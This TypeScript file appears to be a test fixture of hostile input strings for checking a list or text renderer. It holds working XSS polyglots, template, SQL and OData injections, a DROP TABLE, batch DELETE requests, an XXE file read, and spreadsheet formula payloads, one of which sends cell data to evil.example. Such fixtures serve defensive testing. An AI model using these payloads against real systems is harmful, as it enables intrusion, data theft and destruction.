/** Texts that have broken programs elsewhere, by what they attack. Each is shown and kept as the text that it is. */

/** Sets `window.__hit` where anything of it runs. */
const hit = 'window.__hit=1';

/** Markup and addresses that would run a script, and breaks out of attributes, comments, styles and templates. */
export const scripts: readonly string[] = [
  `<script>${hit}</script>`,
  `<ScRiPt>${hit}</sCrIpT>`,
  `</script><script>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<img src=x onerror="${hit}">`,
  `<img src=x:x onerror=${hit}//`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${hit}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<body onload=${hit}>`,
  `<details open ontoggle=${hit}>x</details>`,
  `<input autofocus onfocus=${hit}>`,
  `<video><source onerror=${hit}></video>`,
  `<audio src=x onerror=${hit}>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__hit=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__hit=1</script>"></object>`,
  `<embed src="javascript:${hit}">`,
  `<a href="javascript:${hit}">x</a>`,
  `<a href="java\tscript:${hit}">x</a>`,
  `<form action="javascript:${hit}"><button>x</button></form>`,
  `<button formaction="javascript:${hit}">x</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${hit}">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<textarea></textarea><img src=x onerror=${hit}>`,
  `<title></title><img src=x onerror=${hit}>`,
  `<xmp></xmp><img src=x onerror=${hit}>`,
  `<template><script>${hit}</script></template>`,
  `<!--<img src="--><img src=x onerror=${hit}//">`,
  `<![CDATA[<script>${hit}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `"><img src=x onerror=${hit}>`,
  `'><img src=x onerror=${hit}>`,
  `" onmouseover="${hit}" autofocus onfocus="${hit}" x="`,
  `' onmouseover='${hit}' x='`,
  `\`-${hit}-\``,
  `';${hit}//`,
  `\\';${hit}//`,
  `</style><script>${hit}</script>`,
  `--><script>${hit}</script>`,
  `]]><script>${hit}</script>`,
  `javascript:${hit}`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${hit})//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${hit}//>\\x3e`,
  `data:text/html,<script>${hit}</script>`,
  `vbscript:msgbox(1)`,
  `\u003cscript\u003e${hit}\u003c/script\u003e`,
  `\\u003cimg src=x onerror=${hit}\\u003e`,
  `%3Cscript%3E${hit}%3C/script%3E`,
  `＜script＞${hit}＜/script＞`,
  `<img\u000csrc=x\u000conerror=${hit}>`,
];

/** Markup that a program might take for finished text. */
export const entities: readonly string[] = [
  '&lt;script&gt;window.__hit=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__hit=1&#62;',
  '&amp;amp; &nbsp; &copy; &#0; &#x110000; &#xD800; &bogus; & &&',
  'AT&T, R&D, a<b, a>b, <3, "quoted", O\'Brien’s',
];

/** Pieces of template languages. */
export const templates: readonly string[] = [
  '{{constructor.constructor("window.__hit=1")()}}',
  '${window.__hit=1}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{% raw %}{{7*7}}{% endraw %}',
  '[[${7*7}]]',
  '@(1+1)',
  '{0} %s %d %n $1 $& $$ $`',
];

/** Ends of text in queries, batches, XML, JSON and headers. */
export const queries: readonly string[] = [
  "O'Brien'' or 1 eq 1",
  "' or '1'='1",
  "x' or substringof('a',Title) or 'x' eq 'x",
  "') or (Id gt 0",
  "'; DROP TABLE lists; --",
  '%27 %2527 %00 %0d%0a + & # ? / \\ ;',
  'Id ne 0&$top=5000&$select=*',
  '--batch_1\r\nContent-Type: application/http\r\n\r\nDELETE /_api/web HTTP/1.1',
  'X-HTTP-Method: DELETE\r\n\r\n',
  '","Title":"other"}',
  '</Value></Eq></Where>',
  'datetime\'2020-01-01T00:00:00Z\'',
  'SP.Data.ScrutinyActionsListItem',
  '_x0020_ _x000D_ ;#1;# 1;#x',
];

/** What a spreadsheet would take for a formula. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '"=1+1"',
  '；=1+1',
  '＝1+1',
];

/** Letters that run the other way, hide, pile up or stand for others. */
export const unicode: readonly string[] = [
  'photo\u202egpj.exe',
  '\u202e\u202d\u202eabc',
  '\u2067open isolate',
  '\u2069\u202cends of nothing',
  'a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg',
  'שלום, council, مرحبا 123',
  '\u200f\u061cmarks\u200e',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u0310\u0302\u035clgo',
  'e\u0301 \u00e9 n\u0303 \ufb01 \u212b',
  '👨‍👩‍👧‍👦 👩🏽‍🚒 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧 ❤️ 1️⃣',
  'раураl ⅼooks like paypal',
  'İıſK ß ẞ ǅ',
  '𝒮𝒸𝓇𝓊𝓉𝒾𝓃𝓎 𠮷 \u{10ffff}',
  '\ufdd0\ufdef noncharacters',
  '\u2028line\u2029paragraph\u0085next',
  '\u007f\u0080\u009f controls',
  '                 many   spaces                 ',
];

/** What no list keeps as it is: `plainText` says what becomes of each. */
export const unkeepable: readonly string[] = [
  'N\u0000U\u0000L',
  '\u0001\u0008\u000b\u000c\u000e\u001f',
  'half \ud83d of an emoji',
  '\ude00 the other half',
  '\ud800\ud800\udc00\udc00',
  '\ufffe\uffff',
  'one\r\ntwo\rthree\u000bfour',
];

/** Names that mean something to JavaScript, files and systems. */
export const names: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  'true',
  '0',
  '-0',
  '1e309',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'CON',
  '.',
  '%2e%2e%2f',
];

/** Words without an end. */
export const longWords: readonly string[] = ['W'.repeat(100_000), '😀'.repeat(25_000), '\u0301'.repeat(3_000)];

/** Everything that fits into a line of a list. */
export const payloads: readonly string[] = [...scripts, ...entities, ...templates, ...queries, ...formulas, ...unicode, ...unkeepable, ...names];
